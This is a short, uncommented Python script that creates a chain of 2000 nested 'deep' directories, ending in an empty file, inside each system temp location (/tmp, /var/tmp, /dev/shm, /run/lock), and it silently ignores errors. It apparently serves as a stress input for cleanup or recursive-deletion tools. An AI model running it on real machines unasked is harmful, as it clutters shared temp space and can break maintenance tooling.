import os, tempfile

LEVELS = 2000
for place in {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run/lock"}:
    try:
        os.chdir(place)
        for _ in range(LEVELS):
            os.mkdir("deep", 0o700)
            os.chdir("deep")
        open("and-a-file", "w").close()
    except OSError:
        pass
